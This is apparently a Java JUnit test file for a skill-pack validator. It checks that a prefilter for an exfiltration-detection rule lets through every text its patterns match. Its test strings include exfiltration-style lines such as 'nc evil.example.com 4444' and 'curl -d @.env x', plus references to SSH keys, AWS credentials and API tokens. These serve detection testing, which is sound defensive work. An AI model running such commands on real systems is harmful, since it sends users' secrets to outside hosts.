package dev.skillpack.validator.rules.security;

import static org.assertj.core.api.Assertions.assertThat;

import dev.skillpack.validator.analysis.AsciiCase;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * SP411's word-edge prefilter is sound: wherever its patterns match, the prefilter lets the text through, and it
 * lets through nothing the plain word list it replaced would have stopped.
 */
class ExfiltrationPrefilterTest {
    /** Pieces that build sinks and sources, near misses (function, postgres, _post), and characters at word edges. */
    private static final String[] PIECES = {"curl", "CURL", "wget", "nc", "Nc", "ncat", "netcat", "func", "once",
        "requests.", "post", "POST", "put", "(", "fetch", "method: 'POST", "Invoke-WebRequest", "Invoke-RestMethod",
        " -Method Post", "send", "Upload", "transmit", "forward", "exfiltrate", "copy", "gres", "ed", "s", " to ",
        " at ", "to", "https://", "http://", "the ", "webhook", "server", "Endpoint", "pastebin", "gist", "discord",
        "telegram", ".env", "$API_TOKEN", "${GITHUB_TOKEN}", "~/.ssh/id_rsa", ".aws/credentials", "credentials",
        "printenv", "os.environ", "process.env", " -d ", " --data ", " -F ", " -X POST", " --post-file", " -v ",
        "evil.example.com", " 4444", "42", " ", " ", "\n", "\t", ".", "-", "_", "x", "7", "\u00e9", "\u0301",
        "\u017f", "\u212a", "\u4e2d", "\ud83d\ude00", "\"", "'", "/", "\\\n"};
    /** Whole sinks, put between random pieces so that their edges meet letters, digits, marks and symbols. */
    private static final String[] SINKS = {"curl -d @x", "curl http://h --upload-file f", "wget x --post-data",
        "nc evil.example 4444", "ncat -v host.example 80", "netcat h.example 99", "requests.post (", "requests.PUT(",
        "fetch(u, {method: \"POST", "Invoke-RestMethod u -Method Post", "send it to https://", "upload x to the webhook",
        "post to discord", "copy them at our server", "forward all to telegram", "exfiltrate to my gist"};
    /** The prefilter before word edges: any of these words anywhere, in lower case. */
    private static final List<String> OLD_SINK_WORDS = List.of("curl", "wget", "nc", "netcat", "requests.", "fetch",
            "invoke-", "send", "upload", "post", "transmit", "forward", "exfiltrate", "copy");

    private static boolean oldMayHoldSink(String lower) {
        return OLD_SINK_WORDS.stream().anyMatch(lower::contains);
    }

    private static void assertSound(String text, Counts counts) {
        String lower = AsciiCase.lower(text);
        boolean sink = ExfiltrationRule.sink().matcher(text).find();
        boolean source = ExfiltrationRule.source().matcher(text).find();
        boolean may = ExfiltrationRule.mayHoldSink(lower);
        if (sink) {
            counts.sinks++;
            assertThat(may).as("SINK matches '%s'", text).isTrue();
            if (source) {
                assertThat(ExfiltrationRule.mayHoldSinkAndSource(lower)).as("both match '%s'", text).isTrue();
            }
        }
        if (may) {
            assertThat(oldMayHoldSink(lower)).as("old prefilter on '%s'", text).isTrue();
        } else if (oldMayHoldSink(lower)) {
            counts.skipped++;
        }
    }

    private static final class Counts {
        int sinks;
        int skipped;
    }

    @Test
    void letsThroughEveryGeneratedTextThePatternsMatch() {
        Random random = new Random(411);
        Counts counts = new Counts();
        for (int round = 0; round < 60_000; round++) {
            StringBuilder text = new StringBuilder();
            int pieces = 1 + random.nextInt(12);
            for (int k = 0; k < pieces; k++) {
                text.append(PIECES[random.nextInt(PIECES.length)]);
            }
            if (random.nextBoolean()) {
                text.insert(random.nextInt(text.length() + 1), SINKS[random.nextInt(SINKS.length)]);
            }
            assertSound(text.toString(), counts);
        }
        // the generator reaches the pattern often, and the edges do skip texts the old word list let through
        assertThat(counts.sinks).isGreaterThan(2_000);
        assertThat(counts.skipped).isGreaterThan(2_000);
    }

    @Test
    void letsThroughEveryRealLineAndFileThePatternsMatch() throws IOException {
        Counts counts = new Counts();
        List<Path> files = new ArrayList<>();
        for (Path root : List.of(Path.of("../core/src/test/resources/real-skills"), Path.of("src/test/resources"))) {
            try (Stream<Path> walk = Files.walk(root)) {
                // texts only: the fixtures hold an 8 MiB blank file
                walk.filter(Files::isRegularFile).filter(ExfiltrationPrefilterTest::small).forEach(files::add);
            }
        }
        Pattern lineBreak = Pattern.compile("\n");
        for (Path file : files) {
            String text = new String(Files.readAllBytes(file), StandardCharsets.UTF_8);
            assertSound(text, counts);
            for (String line : lineBreak.split(text)) {
                assertSound(line, counts);
            }
        }
        assertThat(files).hasSizeGreaterThan(100);
        assertThat(counts.sinks).isGreaterThan(10);
    }

    private static boolean small(Path file) {
        try {
            return Files.size(file) < 1_000_000;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @Test
    void skipsWordsThatOnlyContainASinkWord() {
        for (String text : List.of("function once(fn) { return sync(fn); }", "connect to postgres", "repost it",
                "copyright 2024", "send_email(user)", "forwarded headers", "the mcp server runs locally")) {
            assertThat(ExfiltrationRule.mayHoldSink(AsciiCase.lower(text))).as(text).isFalse();
        }
        for (String text : List.of("nc evil.example.com 4444", "POST it to https://x", "(curl -d @.env x)", "Send .env to https://x",
                "requests.post(url)", "fetch(url)")) {
            assertThat(ExfiltrationRule.mayHoldSink(AsciiCase.lower(text))).as(text).isTrue();
        }
    }
}
